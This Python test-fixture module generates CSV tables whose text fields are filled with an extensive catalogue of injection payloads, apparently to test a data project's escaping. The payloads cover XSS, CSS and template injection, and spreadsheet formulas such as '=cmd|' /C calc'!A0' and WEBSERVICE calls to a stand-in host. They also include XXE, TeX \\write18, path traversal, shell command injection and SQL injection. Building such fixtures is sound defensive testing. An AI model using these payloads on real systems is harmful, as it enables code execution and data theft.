"""Texts that try to be more than text, and a folder of tables that is full of them."""

import csv
import io
import json
import re
import unicodedata
from datetime import date, timedelta

from tiny import PROJECT_DATA, TINY

RUN = "window.hacked=1"
AWAY = "https://example.org/hacked"
PAYLOADS_BY_KIND = {
    "script": [
        f"<script>{RUN}</script>",
        f"<ScRiPt>{RUN}</sCrIpT>",
        f"</script><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</option></select><script>{RUN}</script>",
        f"</button></td></table><script>{RUN}</script>",
        f"<script src={AWAY}.js></script>",
        f"<script type=module>import '{AWAY}.mjs'</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"<template><script>{RUN}</script></template>",
        f"<!-- --><script>{RUN}</script><!-- -->",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<?xml version='1.0'?><script>{RUN}</script>",
    ],
    "handler": [
        f"<img src=x onerror={RUN}>",
        f"<img src=x onerror='{RUN}'>",
        f"<IMG SRC=x OnErRoR={RUN}>",
        f"<img/src=x/onerror={RUN}>",
        f"<img src=x\nonerror\n=\n{RUN}>",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<marquee onstart={RUN}>",
        f"<div onmouseover={RUN} style='position:fixed;inset:0'>",
        f"<a href=# onclick={RUN}>click</a>",
        f"<p style=animation-name:x onanimationstart={RUN}>",
        f'" onmouseover="{RUN}" x="',
        f"' onmouseover='{RUN}' x='",
        f"` onmouseover=`{RUN}` x=`",
        f'"><img src=x onerror={RUN}>',
        f"'><img src=x onerror={RUN}>",
        f'" autofocus onfocus="{RUN}',
        f"<select autofocus onfocus={RUN}></select>",
        f"<meter onmouseover={RUN}>0</meter>",
    ],
    "fetch": [
        f"<img src={AWAY}.png>",
        f"<img srcset='{AWAY}.png 1x'>",
        f"<iframe src={AWAY}></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<object data={AWAY}.swf></object>",
        f"<embed src={AWAY}.swf>",
        f"<link rel=stylesheet href={AWAY}.css>",
        f"<link rel=prefetch href={AWAY}>",
        f"<base href={AWAY}/>",
        f"<meta http-equiv=refresh content='0;url={AWAY}'>",
        f"<form action={AWAY}><button>send</button></form>",
        f"<video poster={AWAY}.png></video>",
        f"<table background={AWAY}.png><tr><td>cell</table>",
    ],
    "svg": [
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"</text></svg><script>{RUN}</script>",
        f"]]></text><script>{RUN}</script>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
        f"<svg><image href={AWAY}.svg /></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>click</text></a></svg>",
        f"<svg><set attributeName=href to=javascript:{RUN} />",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
        f"--><svg onload={RUN}>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM '{AWAY}'>]><x>&e;</x>",
        '<text x="0" y="0" font-size="99">over all</text>',
    ],
    "css": [
        "<style>*{display:none!important}</style>",
        f"</style><script>{RUN}</script>",
        'x style="}*{display:none!important}"',
        'A style="',
        f"<style>@import url({AWAY}.css);</style>",
        f"<p style='background:url({AWAY}.png)'>",
        f"width:expression({RUN})",
        f"color:red;background-image:url({AWAY}.png)",
        f"}} * {{ background: url({AWAY}.png) }}",
        f"'; @import '{AWAY}.css",
        "x:y\\3c /style\\3e",
        f"-moz-binding:url({AWAY}.xml#x)",
    ],
    "link": [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"javascript&colon;{RUN}",
        f"&#106;avascript:{RUN}",
        f"javascript://example.org/%0a{RUN}",
        f"<a href=javascript:{RUN}>click</a>",
        f"<a href='&#x6A;avascript:{RUN}'>click</a>",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
        f"DATA:image/svg+xml,<svg onload='{RUN}'/>",
        f"vbscript:{RUN}",
        f"VbScRiPt:{RUN}",
        "file:///etc/passwd",
        f"blob:{AWAY}",
        "//example.org/hacked",
    ],
    "markdown": [
        f"[click](javascript:{RUN})",
        f"![picture]({AWAY}.png)",
        f"[click][1]\n\n[1]: javascript:{RUN}",
        f"<javascript:{RUN}>",
        "# heading\n\n* list",
        f"```\n</code></pre><script>{RUN}</script>\n```",
        "| cell | cell |\n|---|---|",
    ],
    "json": [
        f'</script><!--<script>"{RUN}',
        f'"}}]}};{RUN}//',
        f'\\";{RUN};//',
        f"\u2028{RUN}\u2029//",
        "\\u003cscript\\u003e",
        '{"__proto__": {"hacked": 1}}',
        "__proto__",
        "constructor",
    ],
    "entity": [
        "&lt;script&gt;",
        "&amp;lt;b&amp;gt;",
        "&#60;b&#62;",
        f"&quot; onload=&quot;{RUN}",
        "&nbsp;&",
        "&notanentity; &AMP",
        "%3Cscript%3E",
        "\uff1cscript\uff1e",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    ],
    "mathtext": [
        "$\\frac{1}{0}$",
        "$\\frac{1}{$",
        "a $ alone",
        "US$ 5 and US$ 6",
        "\\mathdefault{",
        "$\\mathdefault{x}$",
        "$$\\sum_{i}^{$$",
        "\\(x^2\\) and \\[y^2\\]",
        "\\begin{align}z&=1\\end{align}",
        f"$\\href{{javascript:{RUN}}}{{click}}$",
        f"$\\unicode{{x3c}}\\includegraphics{{{AWAY}.png}}$",
        "_x^y_ \\$ \\",
    ],
    "template": [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% import os %}",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        "%s %d %(x)s %n",
        "{0} {title} {} {0.__class__}",
        "{",
        "}",
        "$1 $& $`",
        "%Y-%m-%d %",
    ],
    "formula": [
        "=1+1",
        "+1",
        "-1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        f'=HYPERLINK("{AWAY}","click")',
        "=cmd|' /C calc'!A0",
        f'=WEBSERVICE("{AWAY}")',
        f'=IMPORTXML("{AWAY}","//a")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(1)",
        '"=1+1"',
        "'=1+1",
        '","=1+1',
        ";=1+1;",
        "a\r\n=1+1",
    ],
    "tex": [
        "} , evil = {1",
        "}}\n@misc{evil, title={x}}",
        "\\input{/etc/passwd}",
        "\\write18{touch hacked}",
        f"\\href{{javascript:{RUN}}}{{x}}",
        "{{{",
        "\\}",
        "50 % of A & B #1 ~ ^ _",
        "@string{x = 1}",
        '" # x # "',
    ],
    "direction": [
        "\u202egnp.dekcah\u202c",
        "\u202etfel ot thgir",
        "\u2066\u2067\u2068 isolated",
        "\u061c\u200f\u200e marks",
        "א <b>ב</b> ג",
    ],
    "invisible": [
        "<\u200bscript>",
        "zero\u200bwidth\u200c\u200d\ufeffspaces",
        "soft\u00adhyphen",
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0321\u034d\u0358lgo",
        "\U000e0041\U000e0042 tags",
        "\ud7ff\ue000\U0010ffff \x7f\x85",
        "👩\u200d👩\u200d👧 🏴\U000e0067\U000e007f",
    ],
    "nothing": [
        "null",
        "None",
        "NaN",
        "nan",
        "undefined",
        "N/A",
        "NULL",
        "#N/A",
        "true",
        "0",
        "1e999",
        "[object Object]",
    ],
    "path": [
        "../../hacked",
        "..\\..\\hacked",
        "/etc/passwd",
        "C:\\hacked",
        "%2e%2e%2fhacked",
        "; touch hacked",
        "$(touch hacked)",
        "`touch hacked`",
        "' OR 1=1 --",
        "CON",
    ],
    "long": [
        f"<b>{'x' * 2000}</b>",
        f"<i>{'many words ' * 20}</i>",
    ],
}
PAYLOADS = [payload for payloads in PAYLOADS_BY_KIND.values() for payload in payloads]
# What no drawing can hold, so that no table may.
UNSHOWABLE = ["\x00", "a\x00b", "a\x08b", "\x0bword", "a\x0cb", "\x1b[31mred", "a\ufffe", "a\uffff"]

# Ids are words of our own; these are sound, and mean something to one language or another.
_WORDS = ["constructor", "nan", "null", "none", "na", "inf", "true", "0", "1", "1e9"]
# Refers to another row by its id, though the descriptor cannot say so.
_REFERENCES = {("indicators", "beside")}
# Holds words of any sort, of which `_statement` keeps as many as it may.
_OPENING = ("statements", "opening_words")
THEMES, CHARTS = 8, 42
# Those in one chart share their texts; so do kinds, as there are no more lanes with a name.
_SHARES = {"indicators": CHARTS, ("kinds", "group"): 6}
ASKED, TOLD = "2005-05-01", "2010-05-01"


def _schemas():
    package = json.loads((PROJECT_DATA / "datapackage.json").read_text(encoding="utf-8"))
    schemas = {resource["name"]: resource["schema"] for resource in package["resources"]}
    for schema in schemas.values():  # the tiny tables have no translations
        schema["fields"] = [field for field in schema["fields"] if ":" not in field["name"]]
    return schemas


def text_fields():
    """List the table and the name of every field that may hold any text."""
    return [
        (table, field["name"])
        for table, schema in _schemas().items()
        for field in schema["fields"]
        if field["type"] == "string"
        and not {"enum", "pattern"} & set(field.get("constraints", {}))
        and not any(field["name"] in key["fields"] for key in schema.get("foreignKeys", []))
        and (table, field["name"]) not in _REFERENCES
    ]


def closed_fields():
    """List the table and the name of every other field."""
    every = [(table, field["name"]) for table, s in _schemas().items() for field in s["fields"]]
    return [field for field in every if field not in text_fields() and field != _OPENING]


def expected(table, column):
    """List what stands in a field: each payload once, with its place behind it.

    Words by which rows are found have no unseen letters, and one form of each letter.
    """
    is_key = column in _schemas()[table]["primaryKey"]
    texts = [f"{payload} ·{table}.{column}.{n}·" for n, payload in enumerate(PAYLOADS)]
    return list(map(_word, texts)) if is_key else texts


def _word(text):
    seen = re.sub("[\u200b\u2060\ufeff\u00ad]", "", text)
    return unicodedata.normalize("NFC", seen).strip(" \N{NO-BREAK SPACE}")


def write_hostile(folder):
    """Write tables whose every text field holds every payload; all else in them is sound."""
    for table, rows in _rows().items():
        template = next(csv.DictReader(io.StringIO(TINY[f"{table}.csv"])))
        texts = {column: expected(table, column) for of, column in text_fields() if of == table}
        header = list(dict.fromkeys([*template, *texts]))
        cells = [
            {
                **template,
                **{c: _share(texts[c], n, _count(table, c, rows)) for c in texts},
                **row,
            }
            for n, row in enumerate(rows)
        ]
        with (folder / f"{table}.csv").open("w", encoding="utf-8", newline="") as file:
            # A return alone is quoted only where every cell is.
            writer = csv.writer(file, quoting=csv.QUOTE_ALL)
            writer.writerows([header, *([row[column] for column in header] for row in cells)])
    return folder


def _count(table, column, rows):
    """Say by how many rows the texts of a column are shared."""
    return _SHARES.get((table, column), _SHARES.get(table, len(rows)))


def _share(texts, n, count):
    """Return what one of so many rows holds, so that all rows together hold all texts."""
    return " ".join(texts[n % count :: count] or [texts[n % len(texts)]])


def _rows():
    """Return for each table its rows, as far as they are no text."""
    kinds = expected("kinds", "id")
    every = range(len(PAYLOADS))
    charts = range(CHARTS)
    return {
        "about": [{"address": "https://example.org/s0"}],
        "sources": [_source(n) for n in range(len(PAYLOADS) + 1)],
        "themes": [{"id": _id(n), "position": n + 1} for n in range(THEMES)],
        "moments": [{"id": _id(0), "date": ASKED}, {"id": _id(1), "date": TOLD}],
        "statements": [_statement(n) for n in every],
        "placements": [{"statement": _id(n), "theme": _id((n + 1) % THEMES)} for n in every],
        "kinds": [{"is_measure": "yes"} for _ in every],
        "milestones": [{**_milestone(n), "kind": kinds[n]} for n in every],
        "milestone_dates": [{"milestone": _id(n), "date": ASKED} for n in every],
        "mentions": [
            {"statement": _id(n), "milestone": _id(n), "relation": ("named", "candidate")[n % 2]}
            for n in every
        ],
        "indicators": [
            *({"id": f"a{n}", "theme": _theme(n), "position": n + 1} for n in charts),
            *({"id": f"b{n}", "theme": _theme(n), "beside": f"a{n}"} for n in charts),
            *({"id": _id(n), "theme": _theme(n), "display": "card"} for n in charts),
        ],
        "observations": [
            {"indicator": id_, "date": day, "vintage": v, "value": v, "source": _id(v)}
            for id_ in [f"{of}{n}" for of in "ab" for n in charts] + [_id(n) for n in charts]
            for day, v in ((ASKED, 1), (ASKED, 2), (TOLD, 1))
        ],
        "readings": [{"id": _id(n), "theme": _theme(n), "source": _id(n)} for n in every],
        "checks": [{"statement": _id(n), "indicators": f"a{n % CHARTS}"} for n in every],
        "questions": [{"id": _id(n), "set": "ask", "theme": _theme(n)} for n in every],
        "choices": [
            *({"question": _id(n), "position": 1, "is_right": "no"} for n in every),
            *(
                {"question": _id(n), "position": 2, "is_right": "yes", "misconception": ""}
                for n in every
            ),
        ],
    }


def _id(n):
    return _WORDS[n] if n < len(_WORDS) else f"r{n}"


def _theme(n):
    """Return the id of a theme, or nothing, for what belongs to none."""
    return _id(n % (THEMES + 1)) if n % (THEMES + 1) < THEMES else ""


def _source(n):
    row = {"id": _id(n), "kind": "official", "url": f"https://example.org/s{n}" if n % 2 else ""}
    if n:
        return row
    whole = {c: " ".join(expected(table, c)) for table, c in text_fields() if table == "sources"}
    # The one that is named everywhere.
    return {**row, **whole, "kind": "article", "url": "https://example.org/s0"}


def _statement(n):
    kind = ("call", "outcome")[n % 2]
    basis = ("", "assertion")[n % 2]
    moment = _id(n % 2)
    row = {"id": _id(n), "theme": _theme(n), "moment": moment, "kind": kind, "basis": basis}
    return {**row, "opening_words": " ".join(PAYLOADS[n].split()[:5])}


def _milestone(n):
    day = date(2003, 1, 1) + timedelta(days=20 * n)
    return {
        "id": _id(n),
        "date": day,
        "end": "",
        "effective": day + timedelta(days=n % 5),
        "original_language": "ar",
        "themes": _id(n % THEMES),
        "sources": _id(n),
    }
